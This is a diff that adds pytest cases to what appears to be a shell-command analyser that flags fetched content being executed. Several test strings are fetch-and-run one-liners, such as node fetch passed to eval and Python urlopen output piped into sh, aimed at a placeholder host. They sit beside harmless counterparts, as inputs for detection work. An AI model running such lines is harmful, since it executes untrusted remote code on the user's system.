@@ -185,3 +185,22 @@ def test_what_is_run_from_the_network_blinds(runner: str) -> None:
     line = read_line(f"python -c \"{runner}(urllib.request.urlopen('https://x.org').read())\"")
 
     assert line.blind is not None
+
+
+@pytest.mark.parametrize(
+    ("program", "text", "runs"),
+    [
+        ("node -e", "fetch('https://a.b/x').then(r=>r.text()).then(t=>(0,eval)(t))", True),
+        ("node -e", "fetch('https://a.b/x').then(r=>r.json()).then(j=>console.log(j))", False),
+        ("python -c", "import subprocess, urllib.request\ns = urllib.request.urlopen('https://a.b/x')"
+         ".read()\nsubprocess.run(['sh'], input=s)", True),
+        ("python -c", "import subprocess, urllib.request\ns = urllib.request.urlopen('https://a.b/x')"
+         ".read()\nsubprocess.run(['less'], input=s)", False),
+        ("python -c", "import re, requests\nt = requests.get('https://a.b/x').text\n"
+         "re.compile('a').exec(t)", False),
+    ],
+)  # fmt: skip
+def test_what_was_fetched_before_is_run(program: str, text: str, runs: bool) -> None:
+    """Text that came from elsewhere and is evaluated, or handed to a shell, some lines later."""
+    kinds = {one.kind for one in read_line(f"{program} {quoted(text)}").commands[0].opaque}
+    assert ("input" in kinds) is runs
